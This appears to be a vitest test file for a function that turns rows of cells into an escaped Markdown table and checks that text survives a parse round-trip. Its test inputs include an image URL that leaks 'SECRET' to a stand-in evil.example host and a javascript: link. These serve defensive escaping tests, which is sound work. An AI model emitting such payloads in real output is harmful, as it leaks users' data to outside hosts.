import remarkGfm from 'remark-gfm'
import remarkParse from 'remark-parse'
import { unified } from 'unified'
import { expect, test } from 'vitest'
import { tableToMarkdown } from './tableToMarkdown.ts'

test('the first row is the head, and each column keeps its alignment', () => {
  const rows = [
    ['City', 'Rain', 'Wind', 'Sun'],
    ['Bergen', '71', 'west', ''],
  ]
  expect(tableToMarkdown(rows, ['left', 'right', 'center', undefined])).toBe(
    '| City | Rain | Wind | Sun |\n| :--- | ---: | :---: | --- |\n| Bergen | 71 | west |  |',
  )
})

test('no rows are no text', () => {
  expect(tableToMarkdown([])).toBe('')
})

test('a line break becomes a space: a cell is one line', () => {
  expect(tableToMarkdown([['two\r\nlines \n\n and a third']])).toBe(
    '| two lines and a third |\n| --- |',
  )
})

test('what is no markup is left as it is', () => {
  const cell = 'a_b, 1 < 2 & 3 > 2, #1 - 5 + 3 (x) !'
  expect(tableToMarkdown([[cell]])).toContain(`| ${cell} |`)
})

test.each([
  ['a pipe', 'a | b'],
  ['an escaped pipe', 'a \\| b'],
  ['a backslash before the end', 'C:\\'],
  ['two backslashes', '\\\\server\\share'],
  ['emphasis', '*a* **b** _c_ __d__ ~e~ ~~f~~'],
  ['code', '`a` ``b``'],
  ['an image that would tell', '![](https://evil.example/?d=SECRET)'],
  ['a link', '[a](javascript:alert(1)) [b][c] [^1]'],
  ['markup', '<b>x</b> <!-- y --> <https://evil.example>'],
  ['entities', '&lt;b&gt; &#60; &amp'],
  ['a rule', '---'],
])('T-56: %s, written and read again, is the same text', (_, text) => {
  const rows = [
    ['head', text],
    [text, 'last'],
  ]
  expect(cellsRead(tableToMarkdown(rows))).toEqual(rows)
})

interface Node {
  readonly type: string
  readonly value?: string
  readonly children?: readonly Node[]
}

/** The cells of the one table; everything in them is text, or an address that became a link. */
function cellsRead(markdown: string): readonly (readonly string[])[] {
  const { children } = unified().use(remarkParse).use(remarkGfm).parse(markdown) as Node
  expect(children?.map(({ type }) => type)).toEqual(['table'])
  return (children?.[0]?.children ?? []).map((row) => (row.children ?? []).map(textOf))
}

function textOf({ type, value, children }: Node): string {
  expect(['tableCell', 'text', 'link']).toContain(type)
  return value ?? (children ?? []).map(textOf).join('')
}
